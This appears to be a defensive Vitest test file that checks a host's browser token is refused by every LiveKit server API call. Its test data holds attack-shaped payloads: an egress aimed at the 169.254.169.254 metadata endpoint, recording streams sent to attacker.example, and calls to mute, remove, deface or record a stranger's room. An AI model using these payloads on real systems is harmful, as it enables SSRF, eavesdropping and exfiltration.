import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { RoomServiceClient, TokenVerifier } from 'livekit-server-sdk'
import { useServices } from '../../support/services.ts'
import { startRuntime, type RunningRuntime } from '../../../native/runtime.ts'
import { ApiClient } from '../../../native/api-client.ts'
import { createTally, recordFigure } from '../../support/figures.ts'

// A host's browser token, taken from /token as the site takes it, tried against every call of
// LiveKit's server API: its own room and a stranger's. Browsers join rooms; everything else is the
// runtime's, behind its own host checks.
const calls: Array<[service: string, method: string, body: (own: string, other: string) => object]> = [
  ['Egress', 'ListEgress', (_, other) => ({ room_name: other })],
  ['Egress', 'StartRoomCompositeEgress', (_, other) => ({ room_name: other, layout: 'grid', file: { filepath: 'stolen.mp4' } })],
  ['Egress', 'StartWebEgress', () => ({ url: 'http://169.254.169.254/latest/meta-data/', file: { filepath: 'web.mp4' } })],
  ['Egress', 'StartTrackEgress', (_, other) => ({ room_name: other, track_id: 'TR_x', websocket_url: 'wss://attacker.example/' })],
  ['Egress', 'StartTrackCompositeEgress', (_, other) => ({ room_name: other, audio_track_id: 'TR_x', file: { filepath: 'a.mp4' } })],
  ['Egress', 'StartParticipantEgress', (_, other) => ({ room_name: other, identity: 'victim', file: { filepath: 'p.mp4' } })],
  ['Egress', 'UpdateLayout', () => ({ egress_id: 'EG_x', layout: 'speaker' })],
  ['Egress', 'UpdateStream', () => ({ egress_id: 'EG_x', add_output_urls: ['rtmp://attacker.example/live'] })],
  ['Egress', 'StopEgress', () => ({ egress_id: 'EG_x' })],
  ['RoomService', 'ListRooms', () => ({})],
  ['RoomService', 'CreateRoom', () => ({ name: 'made-by-a-browser' })],
  ['RoomService', 'DeleteRoom', (own) => ({ room: own })],
  ['RoomService', 'DeleteRoom', (_, other) => ({ room: other })],
  ['RoomService', 'ListParticipants', (own) => ({ room: own })],
  ['RoomService', 'ListParticipants', (_, other) => ({ room: other })],
  ['RoomService', 'GetParticipant', (_, other) => ({ room: other, identity: 'victim' })],
  ['RoomService', 'RemoveParticipant', (own) => ({ room: own, identity: 'guest' })],
  ['RoomService', 'RemoveParticipant', (_, other) => ({ room: other, identity: 'victim' })],
  ['RoomService', 'MutePublishedTrack', (_, other) => ({ room: other, identity: 'victim', track_sid: 'TR_x', muted: true })],
  ['RoomService', 'UpdateParticipant', (own) => ({ room: own, identity: 'guest', attributes: { role: 'host' } })],
  ['RoomService', 'UpdateParticipant', (_, other) => ({ room: other, identity: 'victim', name: 'renamed' })],
  ['RoomService', 'UpdateSubscriptions', (_, other) => ({ room: other, identity: 'victim', track_sids: ['TR_x'], subscribe: true })],
  ['RoomService', 'UpdateRoomMetadata', (own) => ({ room: own, metadata: 'defaced' })],
  ['RoomService', 'UpdateRoomMetadata', (_, other) => ({ room: other, metadata: 'defaced' })],
  ['RoomService', 'SendData', (own) => ({ room: own, data: 'aGk=', kind: 'RELIABLE', topic: 'meet.recording' })],
  ['RoomService', 'SendData', (_, other) => ({ room: other, data: 'aGk=', kind: 'RELIABLE' })],
  ['AgentDispatchService', 'CreateDispatch', (_, other) => ({ room: other, agent_name: 'spy' })],
  ['AgentDispatchService', 'ListDispatch', (_, other) => ({ room: other })],
  ['Ingress', 'CreateIngress', (_, other) => ({ input_type: 'URL_INPUT', url: 'http://attacker.example/a.mp4', room_name: other, participant_identity: 'x' })],
  ['Ingress', 'ListIngress', () => ({})],
  ['SIP', 'ListSIPInboundTrunk', () => ({})],
  ['SIP', 'CreateSIPParticipant', (_, other) => ({ sip_trunk_id: 'ST_x', sip_call_to: '+15550100', room_name: other })],
]

let runtime: RunningRuntime
let admin: RoomServiceClient
const tally = createTally()
const through: string[] = []

beforeAll(async () => {
  runtime = await startRuntime(useServices())
  const { livekitHttpUrl, livekitKey, livekitSecret } = useServices()
  admin = new RoomServiceClient(livekitHttpUrl, livekitKey, livekitSecret)
  // Someone else's meeting, live on the server.
  await new ApiClient(runtime.url).post('/meetings', { roomName: 'victim-room' })
  await admin.createRoom({ name: 'victim-room' })
})
afterAll(async () => {
  await recordFigure('probe-grants', {
    area: 'Probed from outside',
    probe: 'grants',
    scenario: `a host's browser token from /token sent to every call of LiveKit's server API (Egress, RoomService, agent dispatch, Ingress, SIP), for its own room and a stranger's`,
    checked: `every call refused by LiveKit's permission check (401/403 with twirp unauthenticated or permission_denied); the token grants joining its own room only, with no admin, record, create or list right; the stranger's room still there`,
    requests: tally.requests,
    errors: tally.breaches,
    rowsLost: 0,
    notes: `${calls.length} calls; got through: ${through.length ? through.join(', ') : 'none'}`,
  })
  await runtime?.stop()
})

describe(`a host's browser token and LiveKit's server API`, () => {
  test("grants joining the meeting's own room, and nothing a server does", async () => {
    const host = new ApiClient(runtime.url)
    await host.post('/meetings', { roomName: 'probe-own' })
    const token = await host.post('/token', { roomName: 'probe-own', participantName: 'Mallory' })
    expect(token.body.isHost).toBe(true)
    const claims = await new TokenVerifier(useServices().livekitKey, useServices().livekitSecret).verify(token.body.participantToken)
    const grant = claims.video!
    expect(tally.count(grant.room === 'probe-own' && grant.roomJoin === true)).toBe(true)
    for (const power of ['roomAdmin', 'roomRecord', 'roomCreate', 'roomList', 'ingressAdmin', 'canUpdateOwnMetadata', 'hidden', 'recorder', 'agent'] as const) {
      expect(tally.count(!grant[power], 0), power).toBe(true)
    }
    expect(claims.sip, 'SIP grants').toBeUndefined()
  })

  test.each(calls.map(([service, method, body], i) => [`${service}.${method} #${i}`, service, method, body] as const))(
    "%s is refused with LiveKit's permission error",
    async (_, service, method, body) => {
      const host = new ApiClient(runtime.url)
      const own = `own-${method.toLowerCase()}-${Math.random().toString(36).slice(2, 8)}`
      await host.post('/meetings', { roomName: own })
      const { body: token } = await host.post('/token', { roomName: own, participantName: 'Mallory' })
      const response = await fetch(`${useServices().livekitHttpUrl}/twirp/livekit.${service}/${method}`, {
        method: 'POST',
        headers: { authorization: `Bearer ${token.participantToken}`, 'content-type': 'application/json' },
        body: JSON.stringify(body(own, 'victim-room')),
      })
      const answer = (await response.json().catch(() => ({}))) as { code?: string; msg?: string }
      const refused =
        [401, 403].includes(response.status) && ['unauthenticated', 'permission_denied'].includes(answer.code!) && !/not connected/i.test(answer.msg ?? '')
      if (!tally.count(refused)) through.push(`${service}.${method} (${response.status} ${answer.code ?? ''})`)
      expect({ status: response.status, ...answer }, 'LiveKit let it through').toMatchObject({
        status: expect.toBeOneOf([401, 403]),
        code: expect.toBeOneOf(['unauthenticated', 'permission_denied']),
      })
      expect(answer.msg).not.toMatch(/not connected/i)
    },
  )

  test(`the stranger's room is untouched`, async () => {
    const rooms = await admin.listRooms(['victim-room'])
    expect(tally.count(rooms.length === 1 && rooms[0].metadata !== 'defaced')).toBe(true)
  })
})
